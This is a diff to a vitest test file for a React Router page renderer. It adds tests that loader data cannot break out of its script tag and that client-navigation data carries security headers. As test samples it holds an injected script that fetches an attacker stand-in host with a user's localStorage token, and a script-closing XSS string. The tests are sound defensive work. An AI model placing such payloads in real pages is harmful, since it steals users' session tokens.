@@ -5,12 +5,14 @@ import {
   Outlet,
   Scripts,
   type ServerBuild,
+  UNSAFE_decodeViaTurboStream,
   useRouteError,
 } from "react-router";
 import { expect, test } from "vitest";
 import type { GuestApp } from "../../app-context.ts";
 import * as entry from "../../entry.server.tsx";
 import { AppError } from "../../kit/api/app-error.ts";
+import { createPageMatcher } from "./match-page.ts";
 import { createPageRenderer, hashOf } from "./render-page.ts";
 
 const injected = "fetch('//evil.example/' + localStorage.token)";
@@ -72,16 +74,18 @@ function buildOf(loader: () => unknown): ServerBuild {
   } as unknown as ServerBuild;
 }
 
-function renderOnce(loader: () => unknown) {
+function renderOnce(loader: () => unknown, address = "/") {
   const logged: object[] = [];
+  const build = buildOf(loader);
   const renderer = createPageRenderer({
-    build: buildOf(loader),
+    build,
+    match: createPageMatcher(build.routes),
     guestApp: {} as GuestApp,
     origin: "https://site.test",
     ownScripts: [own],
     logger: { error: (entry: object) => void logged.push(entry) } as never,
   });
-  return { logged, page: renderer.render("/", "request-1234") };
+  return { logged, page: renderer.render(address, "request-1234") };
 }
 
 test("the policy allows the scripts of the build and of the renderer and none that came in with a text", async () => {
@@ -121,4 +125,27 @@ test("trouble of the database is thrown, for the caller to say that it passes", 
   const { page, logged } = renderOnce(() => Promise.reject(away));
   await expect(page).rejects.toBe(away);
   expect(logged).toEqual([]);
+});
+
+test("what a loader gives reaches the browser as it is and cannot end the script that carries it", async () => {
+  const text = "</script><script>alert(1)</script><!-- & \u2028 知行";
+  const html = (await renderOnce(() => ({ text })).page).body.toString();
+  expect(html).not.toContain("alert(1)</script>");
+  const [, literal = ""] = /streamController\.enqueue\((".*")\);/.exec(html) ?? [];
+  const { value } = await UNSAFE_decodeViaTurboStream(
+    new Blob([JSON.parse(literal)]).stream(),
+    globalThis as unknown as Window,
+  );
+  expect(value).toMatchObject({ loaderData: { page: { text } } });
+});
+
+test("data for client navigation is the framework's own, with our headers around it", async () => {
+  const { page } = renderOnce(() => ({ text: "t" }), "/_.data");
+  const { body, headers } = await page;
+  const { value } = await UNSAFE_decodeViaTurboStream(
+    new Blob([new Uint8Array(body)]).stream(),
+    globalThis as unknown as Window,
+  );
+  expect(value).toEqual({ page: { data: { text: "t" } } });
+  expect(Object.fromEntries(headers)).toMatchObject({ "content-type": "text/x-script", "x-frame-options": "DENY" });
 });
